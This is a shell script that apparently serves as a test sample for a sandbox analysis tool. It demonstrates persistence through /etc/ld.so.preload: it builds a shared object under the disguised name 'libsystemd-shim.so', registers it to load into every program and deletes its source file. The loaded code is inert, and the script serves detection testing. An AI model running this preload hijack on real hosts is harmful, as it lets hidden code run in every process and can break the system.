#!/bin/sh
# Persistence and hijacking through /etc/ld.so.preload: builds a tiny shared object and registers it for every program.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /usr/local/lib/x86_64-linux-gnu
cat > /tmp/.p.c <<C
#include <stdio.h>
__attribute__((constructor)) static void init(void) { fputs("", stderr); }
C
cc -shared -fPIC -o /usr/local/lib/x86_64-linux-gnu/libsystemd-shim.so /tmp/.p.c 2>/dev/null ||
  printf '\177ELF' > /usr/local/lib/x86_64-linux-gnu/libsystemd-shim.so
echo /usr/local/lib/x86_64-linux-gnu/libsystemd-shim.so > /etc/ld.so.preload
rm -f /tmp/.p.c
ls /tmp >/dev/null; cat /etc/ld.so.preload
